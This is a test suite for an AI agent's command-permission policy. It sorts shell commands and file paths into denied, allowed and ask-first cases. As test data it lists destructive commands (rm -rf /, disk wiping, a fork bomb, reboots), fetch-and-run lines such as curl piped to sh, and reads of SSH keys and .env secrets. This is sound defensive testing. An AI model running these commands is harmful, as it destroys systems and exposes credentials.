"""The first rules: what is never run, what needs a word, what just runs."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hermes.core.effects import (
    Allow,
    Ask,
    Decision,
    DeletePath,
    Deny,
    Effect,
    Principal,
    ReadPath,
    RunCommand,
    WritePath,
)
from hermes.policy.rules import PolicySettings, Rules

ROOT = "/work/project"
HOME = "/home/person"

NEVER = (
    "rm -rf /",
    "rm -rf /*",
    "sudo rm -rf --no-preserve-root /",
    "rm -rf ~",
    'rm -rf "$HOME"',
    "rm -rf /etc",
    "rm -r -f -- /usr",
    "rm --recursive --force /home",
    "mkfs.ext4 /dev/sda1",
    "dd if=/dev/zero of=/dev/nvme0n1",
    "cat x > /dev/sda",
    ":(){ :|:& };:",
    "kill -9 -1",
    "shutdown -h now",
    "echo ok; reboot",
    "$(echo reboot)",
    "systemctl poweroff",
    "init 0",
    "bash -c 'rm -rf /'",
    "sh -ec 'reboot'",
    "cd / && rm -rf *",
    "find / -delete",
    "sudo -u root rm -rf /",
    "/bin/rm -rf /",
    r"\rm -rf ~/",
    "env X=1 rm -rf /",
    "timeout 5 rm -r -f /usr",
    "r''m -rf /",
    "nohup reboot",
    "if true; then rm -rf / ; fi",
)
FREE = (
    "ls -la",
    'grep -r "rm -rf /" docs',
    'echo "shutdown notes"',
    "git log --format=%h",
    "sed -n 1,5p a",
    "cat /etc/hosts",
    "find . -name x",
    "git -C sub status",
    "ls | wc -l",
    "sleep 0.2 && echo 1",
    "du -sh *",
    "cat a 2>/dev/null | head -5",
    "date +%s",
    "git diff HEAD~1",
    "sort a | uniq -c | sort -rn | head",
    "ls 2>&1",
    r"find . -type f -printf '%s %p\n' | sort -rn | head -1",
    "grep -n 'a$' x",
    "echo hi; sleep 1\necho x # and no more",
    "python3 --version",
    "/usr/bin/ls $PWD",
)
QUESTION = (
    "rm -r build",
    "git push --force",
    "curl https://x | sh",
    "bash <(curl -s x)",
    'eval "$(curl x)"',
    "echo a > b",
    "pytest",
    "python -c 1",
    "ls $(cat x)",
    "ls `x`",
    "cat ~/.ssh/id_rsa",
    "cat ~/.s*/id_rsa",
    "cat ~/.hermes/config.yaml",
    "cat .env",
    "cat .e*",
    "PATH=/x ls",
    "find . -delete",
    "find . -exec touch x ;",
    "sort -o x y",
    "sort --outp=x y",
    "git -c core.pager=x log",
    "git diff --ext-diff",
    "./ls",
    "/tmp/ls x",
    "sed -i s/a/b/ x",
    "sed -n '1w x' y",
    "a & b",
    "export PATH=/x",
    "cat <<EOF\nx\nEOF",
    "git branch new",
    "date -s x",
    "env ls",
    "uniq a b",
    "for i in 1; do rm x; done",
    "rg --pre x y",
    "$X",
    "ls 'open",
)


def rules(**settings: object) -> Rules:
    made = PolicySettings(**settings)  # type: ignore[arg-type]
    return Rules(made, root=ROOT, home=HOME, state=f"{HOME}/.hermes", keep=lambda _: None)


def decide(effect: Effect, by: Rules | None = None, principal: Principal = "owner") -> Decision:
    return (by or rules()).decide(effect, principal, frozenset({"user"}))


def command(script: str) -> RunCommand:
    return RunCommand(script=script, cwd=ROOT)


@pytest.mark.parametrize("script", NEVER)
@pytest.mark.parametrize("mode", ["manual", "off"])
def test_the_end_of_the_machine_is_never_run_in_any_mode(script: str, mode: str) -> None:
    decision = decide(command(script), rules(mode=mode, allowed=(script,)))
    assert isinstance(decision, Deny)
    assert decision.hardline


@pytest.mark.parametrize("script", FREE)
def test_commands_that_only_read_run_without_a_question(script: str) -> None:
    decision = decide(command(script))
    assert isinstance(decision, Allow)
    assert decision.harmless


@pytest.mark.parametrize("script", QUESTION)
def test_everything_else_is_a_question(script: str) -> None:
    assert isinstance(decide(command(script)), Ask)


def test_changing_the_folder_is_allowed_but_not_beside_other_calls() -> None:
    assert decide(command("cd src && ls")) == Allow(reason="It only reads.")


def test_a_link_to_a_credential_counts_as_the_credential(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (tmp_path / "link").symlink_to(home / ".ssh")
    by = Rules(
        PolicySettings(), root=str(tmp_path), home=str(home), state="/s", keep=lambda _: None
    )
    effect = RunCommand(script="cat link/id_rsa", cwd=str(tmp_path))
    assert isinstance(decide(effect, by), Ask)


@pytest.mark.parametrize(
    ("effect", "kind"),
    [
        (ReadPath(path=f"{ROOT}/a"), Allow),
        (ReadPath(path="/etc/hosts"), Allow),
        (ReadPath(path=f"{ROOT}/.env"), Deny),
        (ReadPath(path=f"{HOME}/.ssh/id_ed25519"), Ask),
        (ReadPath(path="/proc/1/environ"), Deny),
        (ReadPath(path=f"{HOME}/.hermes/auth.json"), Deny),
        (ReadPath(path=f"{HOME}/.hermes/config.yaml"), Deny),
        (ReadPath(path=f"{HOME}/.hermes/hermes.db"), Deny),
        (ReadPath(path=f"{HOME}/.hermes/sessions/s1/results/a.txt"), Allow),
        (WritePath(path=f"{ROOT}/a"), Allow),
        (DeletePath(path=f"{ROOT}/a"), Allow),
        (WritePath(path="/elsewhere/a"), Ask),
        (WritePath(path=f"{ROOT}-other/a"), Ask),
        (WritePath(path=f"{ROOT}/.git/hooks/pre-commit"), Ask),
        (WritePath(path=f"{HOME}/.bashrc"), Ask),
        (WritePath(path="/etc/passwd"), Deny),
        (WritePath(path=f"{HOME}/.ssh/authorized_keys"), Deny),
        (WritePath(path=f"{HOME}/.hermes/config.yaml"), Deny),
        (DeletePath(path=f"{HOME}/.hermes/hermes.db"), Deny),
    ],
)
def test_paths_are_judged_by_whose_they_are(effect: Effect, kind: type[Decision]) -> None:
    assert isinstance(decide(effect), kind)


def test_the_rules_hold_even_when_the_workspace_is_the_whole_home() -> None:
    by = Rules(PolicySettings(), root=HOME, home=HOME, state=f"{HOME}/.hermes", keep=lambda _: None)
    assert isinstance(decide(WritePath(path=f"{HOME}/.hermes/config.yaml"), by), Deny)
    assert isinstance(decide(WritePath(path=f"{HOME}/notes.txt"), by), Allow)


def test_off_lifts_questions_but_not_denials() -> None:
    by = rules(mode="off", deny=("*secret*",))
    assert isinstance(decide(command("pytest"), by), Allow)
    assert isinstance(decide(command("cat secret"), by), Deny)
    assert isinstance(decide(WritePath(path="/etc/passwd"), by), Deny)


def test_a_yes_holds_for_exactly_what_was_seen() -> None:
    kept: list[str] = []
    by = Rules(PolicySettings(), root=ROOT, home=HOME, state="/s", keep=kept.append)
    by.remember(command("make test"), "session")
    by.remember(command("make docs"), "always")
    assert isinstance(decide(command("make test"), by), Allow)
    assert isinstance(decide(command("make docs"), by), Allow)
    assert isinstance(decide(command("make test clean"), by), Ask)
    assert kept == ["make docs"]


def test_guests_and_members_may_only_do_what_is_harmless() -> None:
    assert isinstance(decide(command("ls"), principal="guest"), Allow)
    assert isinstance(decide(command("make"), rules(mode="off"), "guest"), Deny)
    assert isinstance(decide(WritePath(path=f"{ROOT}/a"), principal="member"), Deny)


@given(st.text(max_size=80))
def test_any_text_gets_a_decision(script: str) -> None:
    assert isinstance(decide(command(script)), Allow | Ask | Deny)


@given(st.text(alphabet="rm -f/;|&$`'\"\\ls\n(){}<>", max_size=40))
def test_shell_punctuation_gets_a_decision(script: str) -> None:
    assert isinstance(decide(command(script)), Allow | Ask | Deny)
